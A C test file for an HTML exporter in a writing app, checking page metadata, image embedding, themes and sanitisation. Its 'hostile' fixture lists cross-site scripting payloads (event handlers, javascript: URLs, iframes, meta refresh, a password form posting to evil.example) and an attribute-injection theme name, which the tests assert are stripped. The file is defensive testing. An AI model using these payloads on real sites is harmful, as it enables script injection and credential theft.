/* test-html-export.c
 *
 * Copyright 2026 The Byline Authors
 *
 * This program is free software: you can redistribute it and/or modify
 * it under the terms of the GNU General Public License as published by
 * the Free Software Foundation, either version 3 of the License, or
 * (at your option) any later version.
 *
 * This program is distributed in the hope that it will be useful,
 * but WITHOUT ANY WARRANTY; without even the implied warranty of
 * MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
 * GNU General Public License for more details.
 *
 * You should have received a copy of the GNU General Public License
 * along with this program.  If not, see <http://www.gnu.org/licenses/>.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include <glib/gstdio.h>

#include "byline-html-export.h"
#include "byline-review.h"

/* A 1×1 PNG. */
static const char png_base64[] =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";

static const char article[] =
  "---\n"
  "title: \"Trains & \\\"Night\\\" Lines\"\n"
  "description: Why night trains come back every twenty years.\n"
  "site: https://example.com/\n"
  "path: /posts/night-trains\n"
  "coverImage: images/cover photo.png\n"
  "tags:\n"
  "  - rail\n"
  "  - travel\n"
  "publishedAt: 2026-11-28T09:00:00.000Z\n"
  "atUri: at://did:plc:abc123/site.standard.document/3lbq2xyzabc22\n"
  "---\n"
  "\n"
  "# Night trains\n"
  "\n"
  "The first paragraph.\n"
  "\n"
  "![A sleeper car](pic.png)\n"
  "\n"
  "![Remote](https://example.com/remote.png)\n"
  "\n"
  "<script>alert(1)</script>\n"
  "\n"
  "<p onclick=\"alert(2)\">Raw HTML</p>\n";

typedef struct
{
  char  *dir;
  GFile *base_dir;
} Fixture;

static void
fixture_set_up (Fixture       *fixture,
                gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree guchar *png = NULL;
  g_autofree char *images = NULL;
  g_autofree char *cover = NULL;
  g_autofree char *pic = NULL;
  gsize png_length;

  fixture->dir = g_dir_make_tmp ("byline-html-export-XXXXXX", &error);
  g_assert_no_error (error);
  fixture->base_dir = g_file_new_for_path (fixture->dir);

  png = g_base64_decode (png_base64, &png_length);
  images = g_build_filename (fixture->dir, "images", NULL);
  g_assert_cmpint (g_mkdir (images, 0700), ==, 0);
  cover = g_build_filename (images, "cover photo.png", NULL);
  pic = g_build_filename (fixture->dir, "pic.png", NULL);
  g_file_set_contents (cover, (const char *) png, png_length, &error);
  g_assert_no_error (error);
  g_file_set_contents (pic, (const char *) png, png_length, &error);
  g_assert_no_error (error);
}

static void
fixture_tear_down (Fixture       *fixture,
                   gconstpointer  data)
{
  g_autofree char *images = g_build_filename (fixture->dir, "images", NULL);
  g_autofree char *cover = g_build_filename (images, "cover photo.png", NULL);
  g_autofree char *pic = g_build_filename (fixture->dir, "pic.png", NULL);
  g_autofree char *html = g_build_filename (fixture->dir, "article.html", NULL);
  g_autofree char *md = g_build_filename (fixture->dir, "article.md", NULL);

  g_unlink (cover);
  g_unlink (pic);
  g_unlink (html);
  g_unlink (md);
  g_rmdir (images);
  g_rmdir (fixture->dir);
  g_clear_object (&fixture->base_dir);
  g_clear_pointer (&fixture->dir, g_free);
}

static guint
count (const char *haystack,
       const char *needle)
{
  guint n = 0;

  for (const char *p = haystack; (p = strstr (p, needle)) != NULL; p += strlen (needle))
    n++;

  return n;
}

static void
test_head (Fixture       *fixture,
           gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *html = byline_html_export_text (article, -1, fixture->base_dir, &error);
  const char *head_end;

  g_assert_no_error (error);
  g_assert_nonnull (html);
  g_assert_true (g_str_has_prefix (html, "<!DOCTYPE html>\n<html>\n<head>\n"));
  head_end = strstr (html, "</head>");
  g_assert_nonnull (head_end);

  g_assert_nonnull (g_strstr_len (html, head_end - html, "<meta charset=\"utf-8\">"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<title>Trains &amp; &quot;Night&quot; Lines</title>"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<meta name=\"description\" content=\"Why night trains come back every twenty years.\">"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<meta property=\"og:type\" content=\"article\">"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<meta property=\"og:title\" content=\"Trains &amp; &quot;Night&quot; Lines\">"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<meta property=\"og:description\" content=\"Why night trains come back every twenty years.\">"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<meta property=\"og:url\" content=\"https://example.com/posts/night-trains\">"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<meta property=\"article:published_time\" content=\"2026-11-28T09:00:00.000Z\">"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<meta property=\"article:tag\" content=\"rail\">"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<meta property=\"article:tag\" content=\"travel\">"));
  g_assert_nonnull (g_strstr_len (html, head_end - html,
                                  "<link rel=\"site.standard.document\" href=\"at://did:plc:abc123/site.standard.document/3lbq2xyzabc22\">"));
  /* A local cover is no use to a crawler: no og:image. */
  g_assert_null (g_strstr_len (html, head_end - html, "og:image"));

  /* The preview's style sheet is inlined, and the page forbids scripts. */
  g_assert_nonnull (g_strstr_len (html, head_end - html, "<style>"));
  g_assert_nonnull (g_strstr_len (html, head_end - html, "#byline-article"));
  g_assert_nonnull (g_strstr_len (html, head_end - html, "prefers-color-scheme: dark"));
  g_assert_nonnull (g_strstr_len (html, head_end - html, "default-src &#39;none&#39;"));
  g_assert_null (g_strstr_len (html, head_end - html, "script-src"));
  g_assert_null (strstr (html, "<link rel=\"stylesheet\""));
}

static void
test_body (Fixture       *fixture,
           gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *html = byline_html_export_text (article, -1, fixture->base_dir, &error);
  g_autofree char *data_uri = g_strconcat ("src=\"data:image/png;base64,", png_base64, "\"", NULL);
  const char *body;

  g_assert_no_error (error);
  body = strstr (html, "<body>");
  g_assert_nonnull (body);
  g_assert_nonnull (strstr (body, "<main id=\"byline-article\">"));
  /* Written back by an HTML serialiser: quotes in text need no entity. */
  g_assert_nonnull (strstr (body, "<h1 class=\"title\">Trains &amp; \"Night\" Lines</h1>"));
  g_assert_nonnull (strstr (body, "The first paragraph."));

  /* Both local images (the cover with a space in its path, and the inline one) are embedded;
   * the remote one keeps its URL. */
  g_assert_cmpuint (count (body, data_uri), ==, 2);
  g_assert_nonnull (strstr (body, "alt=\"A sleeper car\""));
  g_assert_nonnull (strstr (body, "src=\"https://example.com/remote.png\""));
  g_assert_null (strstr (body, "pic.png"));
  g_assert_null (strstr (body, "cover photo"));

  /* No script in the page: raw <script> is defused by the tag filter. */
  g_assert_null (strstr (html, "<script"));
  g_assert_true (g_str_has_suffix (html, "</main>\n</body>\n</html>\n"));
}

static void
test_unpublished (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *html = byline_html_export_text ("# Just a heading\n\nText.\n", -1, NULL, &error);

  g_assert_no_error (error);
  g_assert_nonnull (strstr (html, "<title>Untitled Article</title>"));
  g_assert_null (strstr (html, "site.standard.document"));
  g_assert_null (strstr (html, "name=\"description\""));
  g_assert_null (strstr (html, "og:url"));
  g_assert_nonnull (strstr (html, "Just a heading</h1>"));
}

static void
test_missing_image (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GFile) base_dir = g_file_new_for_path ("/nonexistent-byline-dir");
  g_autofree char *html = byline_html_export_text ("![gone](missing.png)\n", -1, base_dir, &error);

  g_assert_no_error (error);
  g_assert_nonnull (strstr (html, "src=\"missing.png\""));
}

/* Each local image left out of the page is named with the reason, in words; images that were
 * embedded, and remote ones, are not. */
static void
test_unembedded_images (Fixture       *fixture,
                        gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) unembedded = NULL;
  g_autofree char *note = g_build_filename (fixture->dir, "note.png", NULL);
  g_autofree char *html = NULL;

  g_file_set_contents (note, "a note, not an image\n", -1, &error);
  g_assert_no_error (error);

  html = byline_html_export_text_full ("![here](pic.png)\n\n![gone](images/gone%20away.png)\n\n"
                                       "![note](note.png)\n\n![folder](images)\n\n"
                                       "![remote](https://example.org/a.png)\n",
                                       -1, fixture->base_dir, BYLINE_HTML_EXPORT_DEFAULT, NULL,
                                       &unembedded, &error);
  g_assert_no_error (error);
  g_assert_nonnull (html);
  g_assert_cmpuint (unembedded->len, ==, 3);
  g_assert_cmpstr (g_ptr_array_index (unembedded, 0), ==,
                   "There is no file “images/gone away.png” beside the article");
  g_assert_cmpstr (g_ptr_array_index (unembedded, 1), ==, "“note.png” is not an image");
  g_assert_cmpstr (g_ptr_array_index (unembedded, 2), ==, "“images” is a folder, not a file");
  g_assert_null (strstr (html, "src=\"pic.png\""));

  g_unlink (note);
}

static void
test_only_images_are_embedded (Fixture       *fixture,
                               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *secret = g_build_filename (fixture->dir, "secret.png", NULL);
  g_autofree char *svg = g_build_filename (fixture->dir, "figure.svg", NULL);
  g_autofree char *html = NULL;

  g_file_set_contents (secret, "not an image, a private note\n", -1, &error);
  g_assert_no_error (error);
  g_file_set_contents (svg, "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" "
                       "width=\"1\" height=\"1\"/>\n", -1, &error);
  g_assert_no_error (error);

  html = byline_html_export_text ("![a](secret.png)\n\n![b](figure.svg)\n", -1,
                                  fixture->base_dir, &error);
  g_assert_no_error (error);
  g_assert_nonnull (strstr (html, "src=\"secret.png\""));
  g_assert_null (strstr (html, "private note"));
  g_assert_nonnull (strstr (html, "src=\"data:image/svg+xml;base64,"));

  g_unlink (secret);
  g_unlink (svg);
}

static void
test_file (Fixture       *fixture,
           gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *md_path = g_build_filename (fixture->dir, "article.md", NULL);
  g_autofree char *html_path = g_build_filename (fixture->dir, "article.html", NULL);
  g_autoptr(GFile) md = g_file_new_for_path (md_path);
  g_autoptr(GFile) out = g_file_new_for_path (html_path);
  g_autofree char *html = NULL;

  g_file_set_contents (md_path, article, -1, &error);
  g_assert_no_error (error);

  g_assert_true (byline_html_export_file (md, out, &error));
  g_assert_no_error (error);
  g_file_get_contents (html_path, &html, NULL, &error);
  g_assert_no_error (error);
  g_assert_nonnull (strstr (html, "<link rel=\"site.standard.document\""));
  g_assert_nonnull (strstr (html, "src=\"data:image/png;base64,"));
}

static void
test_bad_front_matter (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *html = byline_html_export_text ("---\ntitle: [unclosed\n---\n\nText\n", -1,
                                                   NULL, &error);

  g_assert_null (html);
  g_assert_nonnull (error);
}

/* Raw HTML that would act in a browser: the page must carry none of it, whatever its CSP. */
static const char hostile[] =
  "# Hostile\n"
  "\n"
  "<p onclick=\"alert(1)\" OnMouseOver='alert(2)' class=\"kept\">Handlers</p>\n"
  "\n"
  "<a href=\"javascript:alert(3)\">js link</a> <a href=\" JaVa&#x09;Script:alert(4)\">spaced</a>\n"
  "<a href=\"vbscript:msgbox(5)\">vb</a>\n"
  "<a href=\"data:text/html,<script>alert(6)</script>\">data link</a>\n"
  "<a href=\"https://example.com/safe\">safe link</a> <a href=\"#notes\">anchor</a>\n"
  "\n"
  "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">\n"
  "<base href=\"https://evil.example/\">\n"
  "<link rel=\"stylesheet\" href=\"https://evil.example/style.css\">\n"
  "\n"
  "<iframe src=\"https://evil.example/frame\"></iframe>\n"
  "<object data=\"https://evil.example/movie.swf\"></object>\n"
  "<embed src=\"https://evil.example/plugin\">\n"
  "\n"
  "<form action=\"https://evil.example/steal\"><input name=\"password\"> Form text"
  "<button formaction=\"javascript:alert(7)\">Send</button></form>\n"
  "\n"
  "<div style=\"background: url(https://evil.example/track.png)\">styled url</div>\n"
  "<div style=\"width: expression(alert(8))\">styled to run</div>\n"
  "<div style=\"color: red\">plain style</div>\n"
  "<style>@import url(https://evil.example/import.css);</style>\n"
  "\n"
  "<img src=\"javascript:alert(9)\" alt=\"js image\"> <img src=\"data:image/png;base64,"
  "iVBORw0KGgo=\" alt=\"data image\"> <img src=\"x\" onerror=\"alert(10)\" alt=\"broken\">\n"
  "\n"
  "<svg><a xlink:href=\"javascript:alert(11)\"><text>svg link</text></a>"
  "<set attributeName=\"href\" to=\"javascript:alert(12)\"/></svg>\n"
  "\n"
  "<SCRIPT>alert(13)</SCRIPT>\n"
  "\n"
  "Text with <em>emphasis</em>, “quotes”, 日本語 and a [Markdown link](javascript:alert(14)).\n"
  "\n"
  "```\n<script>code stays text</script> & more\n```\n";

/* The tags of @html alone, without the text between them (where "<" is always "&lt;"). */
static char *
tags_of (const char *html)
{
  g_autoptr(GString) tags = g_string_new (NULL);
  gboolean in_tag = FALSE;

  for (const char *p = html; *p != '\0'; p++)
    {
      if (*p == '<')
        in_tag = TRUE;
      if (in_tag)
        g_string_append_c (tags, g_ascii_tolower (*p));
      if (*p == '>')
        in_tag = FALSE;
    }

  return g_string_free (g_steal_pointer (&tags), FALSE);
}

/* A page with suggestions left is made only when asked, and then shows them as tracked
 * changes, styled. */
static void
test_review_marks (void)
{
  static const char draft[] = "# Draft\n\nA {++big ++}dog {~~ran~>walked~~}.{>>Ann: sure?<<}\n";
  g_autoptr(GError) error = NULL;
  g_autofree char *refused = byline_html_export_text (draft, -1, NULL, &error);
  g_autofree char *html = NULL;

  g_assert_null (refused);
  g_assert_error (error, BYLINE_REVIEW_ERROR, BYLINE_REVIEW_ERROR_UNRESOLVED);
  g_assert_nonnull (strstr (error->message, "3 suggestions or comments left (line 3)"));
  g_clear_error (&error);

  html = byline_html_export_text_full (draft, -1, NULL, BYLINE_HTML_EXPORT_WITH_SUGGESTIONS, NULL,
                                       NULL, &error);
  g_assert_no_error (error);
  g_assert_nonnull (strstr (html, "<ins class=\"critic critic-addition\">big </ins>"));
  g_assert_nonnull (strstr (html, "<del class=\"critic-old\">ran</del><ins class=\"critic-new\">walked</ins>"));
  g_assert_nonnull (strstr (html, "<span class=\"critic critic-comment\" role=\"note\"><span class=\"critic-author\">Ann</span> sure?</span>"));
  g_assert_nonnull (strstr (html, ".critic-comment {"));
}

/* A page in another built-in theme carries its class on the root; the style sheet has it. */
static void
test_theme (void)
{
  static const char draft[] = "# Themed\n\nText.\n";
  g_autoptr(GError) error = NULL;
  g_autofree char *newsletter = byline_html_export_text_full (draft, -1, NULL, BYLINE_HTML_EXPORT_DEFAULT,
                                                              "newsletter", NULL, &error);
  g_autofree char *plain = byline_html_export_text_full (draft, -1, NULL, BYLINE_HTML_EXPORT_DEFAULT,
                                                         "default", NULL, &error);
  g_autofree char *injected = byline_html_export_text_full (draft, -1, NULL, BYLINE_HTML_EXPORT_DEFAULT,
                                                           "x\" onload=\"", NULL, &error);

  g_assert_no_error (error);
  g_assert_nonnull (strstr (newsletter, "<html class=\"theme-newsletter\">"));
  g_assert_nonnull (strstr (newsletter, ":root.theme-newsletter {"));
  g_assert_nonnull (strstr (plain, "<!DOCTYPE html>\n<html>\n"));
  g_assert_nonnull (strstr (injected, "<!DOCTYPE html>\n<html>\n"));

  /* The article's own theme comes first. */
  {
    static const char own[] = "---\ntitle: Mine\ntheme: longread\n---\n\nText.\n";
    static const char unknown[] = "---\ntitle: Mine\ntheme: gothic\n---\n\nText.\n";
    g_autofree char *page = byline_html_export_text_full (own, -1, NULL, BYLINE_HTML_EXPORT_DEFAULT,
                                                          "newsletter", NULL, &error);
    g_autofree char *fallback = byline_html_export_text_full (unknown, -1, NULL, BYLINE_HTML_EXPORT_DEFAULT,
                                                              "newsletter", NULL, &error);
    g_autofree char *cli = byline_html_export_text (own, -1, NULL, &error);

    g_assert_no_error (error);
    g_assert_nonnull (strstr (page, "<html class=\"theme-longread\">"));
    g_assert_nonnull (strstr (fallback, "<html class=\"theme-newsletter\">"));
    g_assert_nonnull (strstr (cli, "<html class=\"theme-longread\">"));
  }
}

/* The article's own style sheet goes into the page after the built-in one; one outside the
 * article's folder stops the export. */
static void
test_stylesheet (void)
{
  g_autofree char *dir = g_dir_make_tmp ("byline-css-XXXXXX", NULL);
  g_autofree char *css = g_build_filename (dir, "site.css", NULL);
  g_autoptr(GFile) base = g_file_new_for_path (dir);
  g_autoptr(GError) error = NULL;
  g_autofree char *page = NULL;
  g_autofree char *outside = NULL;
  g_autofree char *closing = NULL;

  g_assert_true (g_file_set_contents (css, "p { color: rgb(1, 2, 3); }", -1, NULL));
  page = byline_html_export_text ("---\ntitle: S\nstylesheet: site.css\n---\n\nText.\n", -1, base, &error);
  g_assert_no_error (error);
  g_assert_nonnull (strstr (page, "<style>\np { color: rgb(1, 2, 3); }\n</style>\n"));
  g_assert_true (strstr (page, ":root.theme-newsletter") < strstr (page, "rgb(1, 2, 3)"));

  outside = byline_html_export_text ("---\ntitle: S\nstylesheet: ../site.css\n---\n\nText.\n", -1, base, &error);
  g_assert_null (outside);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_FILENAME);
  g_clear_error (&error);

  g_assert_true (g_file_set_contents (css, "p {} </style><script>x()</script>", -1, NULL));
  closing = byline_html_export_text ("---\ntitle: S\nstylesheet: site.css\n---\n\nText.\n", -1, base, &error);
  g_assert_null (closing);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_DATA);

  g_unlink (css);
  g_rmdir (dir);
}

static void
test_hostile (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *html = byline_html_export_text (hostile, -1, NULL, &error);
  g_autofree char *tags = NULL;
  const char *body;

  g_assert_no_error (error);
  body = strstr (html, "<body>");
  g_assert_nonnull (body);
  tags = tags_of (body);

  /* Nothing that runs. */
  g_assert_null (strstr (tags, "<script"));
  g_assert_null (strstr (tags, " on"));
  g_assert_null (strstr (tags, "javascript"));
  g_assert_null (strstr (tags, "script:"));
  g_assert_null (strstr (tags, "vbscript"));
  g_assert_null (strstr (tags, "data:text"));
  g_assert_null (strstr (tags, "expression"));
  g_assert_null (strstr (tags, "alert("));

  /* Nothing that loads, redirects or re-bases the page, or sends a form. */
  g_assert_null (strstr (tags, "evil.example"));
  g_assert_null (strstr (tags, "<meta"));
  g_assert_null (strstr (tags, "<base"));
  g_assert_null (strstr (tags, "<link"));
  g_assert_null (strstr (tags, "<iframe"));
  g_assert_null (strstr (tags, "<object"));
  g_assert_null (strstr (tags, "<embed"));
  g_assert_null (strstr (tags, "<form"));
  g_assert_null (strstr (tags, "<set"));
  g_assert_null (strstr (tags, "<style"));
  g_assert_null (strstr (tags, "url("));

  /* The tag filter shows a raw script, iframe or style as text, which is all it is. */
  g_assert_nonnull (strstr (body, "&lt;SCRIPT&gt;alert(13)&lt;/SCRIPT&gt;"));

  /* What is harmless stays: text, safe links, plain styles, data images, the code block. */
  g_assert_nonnull (strstr (body, "class=\"kept\""));
  g_assert_nonnull (strstr (body, ">Handlers</p>"));
  g_assert_nonnull (strstr (body, "href=\"https://example.com/safe\""));
  g_assert_nonnull (strstr (body, "href=\"#notes\""));
  g_assert_nonnull (strstr (body, "js link</a>"));
  g_assert_nonnull (strstr (body, "Form text"));
  g_assert_nonnull (strstr (body, "styled url</div>"));
  g_assert_nonnull (strstr (body, "style=\"color: red\""));
  g_assert_nonnull (strstr (body, "src=\"data:image/png;base64,iVBORw0KGgo=\""));
  g_assert_nonnull (strstr (body, "alt=\"js image\""));
  g_assert_nonnull (strstr (body, "svg link"));
  g_assert_nonnull (strstr (body, "Markdown link</a>"));
  g_assert_nonnull (strstr (body, "Text with <em>emphasis</em>, “quotes”, 日本語 and"));
  g_assert_nonnull (strstr (body, "&lt;script&gt;code stays text&lt;/script&gt; &amp; more"));

  /* The Content-Security-Policy stays, as a second wall. */
  g_assert_nonnull (strstr (html, "Content-Security-Policy"));
  g_assert_true (g_str_has_suffix (html, "</main>\n</body>\n</html>\n"));
}

static JsonObject *
color (int r,
       int g,
       int b)
{
  JsonObject *object = json_object_new ();

  json_object_set_string_member (object, "$type", "site.standard.theme.color#rgb");
  json_object_set_int_member (object, "r", r);
  json_object_set_int_member (object, "g", g);
  json_object_set_int_member (object, "b", b);

  return object;
}

static JsonObject *
basic_theme (int bg_r)
{
  JsonObject *theme = json_object_new ();

  json_object_set_string_member (theme, "$type", "site.standard.theme.basic");
  json_object_set_object_member (theme, "background", color (bg_r, 246, 227));
  json_object_set_object_member (theme, "foreground", color (7, 54, 66));
  json_object_set_object_member (theme, "accent", color (203, 75, 22));
  json_object_set_object_member (theme, "accentForeground", color (255, 255, 255));

  return theme;
}

/* A publication's colours make the "publication" theme; a theme with a colour missing or out
 * of range makes none. */
static void
test_publication_theme (void)
{
  g_autoptr(JsonObject) theme = basic_theme (253);
  g_autoptr(JsonObject) dark = json_object_new ();
  g_autoptr(JsonObject) broken = basic_theme (300);
  g_autoptr(JsonObject) partial = basic_theme (253);
  g_autofree char *css = byline_html_export_publication_css (theme);
  g_autofree char *dark_css = NULL;
  static const char themed[] = "---\ntitle: Mine\ntheme: publication\n---\n\nText.\n";
  g_autofree char *page = NULL;
  g_autofree char *plain = NULL;
  g_autoptr(GError) error = NULL;

  g_assert_nonnull (css);
  g_assert_nonnull (strstr (css, ":root.theme-publication,\n:root.theme-publication.dark {"));
  g_assert_nonnull (strstr (css, "--bg: #fdf6e3;"));
  g_assert_nonnull (strstr (css, "--fg: #073642;"));
  g_assert_nonnull (strstr (css, "--accent: #cb4b16;"));
  g_assert_nonnull (strstr (css, "--tag-bg: #cb4b16;"));
  g_assert_nonnull (strstr (css, "--tag-fg: #ffffff;"));
  g_assert_nonnull (strstr (css, "color-scheme: light;"));

  json_object_set_object_member (dark, "background", color (0, 43, 54));
  json_object_set_object_member (dark, "foreground", color (238, 232, 213));
  json_object_set_object_member (dark, "accent", color (38, 139, 210));
  json_object_set_object_member (dark, "accentForeground", color (0, 0, 0));
  dark_css = byline_html_export_publication_css (dark);
  g_assert_nonnull (strstr (dark_css, "color-scheme: dark;"));

  g_assert_null (byline_html_export_publication_css (broken));
  json_object_remove_member (partial, "accentForeground");
  g_assert_null (byline_html_export_publication_css (partial));
  g_assert_null (byline_html_export_publication_css (NULL));

  /* The article asks for it; the page carries the colours after the built-in style. */
  page = byline_html_export_text_themed (themed, -1, NULL, BYLINE_HTML_EXPORT_DEFAULT, NULL,
                                         theme, NULL, &error);
  g_assert_no_error (error);
  g_assert_nonnull (strstr (page, "<html class=\"theme-publication\">"));
  g_assert_nonnull (strstr (page, "--bg: #fdf6e3;"));
  g_assert_true (strstr (page, ":root.theme-newsletter") < strstr (page, "--bg: #fdf6e3;"));

  /* Colours unknown: the class alone, which looks as the default. */
  plain = byline_html_export_text_themed (themed, -1, NULL, BYLINE_HTML_EXPORT_DEFAULT, NULL,
                                          NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_nonnull (strstr (plain, "<html class=\"theme-publication\">"));
  g_assert_null (strstr (plain, "--bg: #fdf6e3;"));
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add ("/html-export/head", Fixture, NULL, fixture_set_up, test_head, fixture_tear_down);
  g_test_add ("/html-export/body", Fixture, NULL, fixture_set_up, test_body, fixture_tear_down);
  g_test_add ("/html-export/file", Fixture, NULL, fixture_set_up, test_file, fixture_tear_down);
  g_test_add ("/html-export/only-images", Fixture, NULL, fixture_set_up,
              test_only_images_are_embedded, fixture_tear_down);
  g_test_add_func ("/html-export/unpublished", test_unpublished);
  g_test_add_func ("/html-export/missing-image", test_missing_image);
  g_test_add ("/html-export/unembedded-images", Fixture, NULL, fixture_set_up,
              test_unembedded_images, fixture_tear_down);
  g_test_add_func ("/html-export/bad-front-matter", test_bad_front_matter);
  g_test_add_func ("/html-export/hostile", test_hostile);
  g_test_add_func ("/html-export/review-marks", test_review_marks);
  g_test_add_func ("/html-export/theme", test_theme);
  g_test_add_func ("/html-export/stylesheet", test_stylesheet);
  g_test_add_func ("/html-export/publication-theme", test_publication_theme);

  return g_test_run ();
}
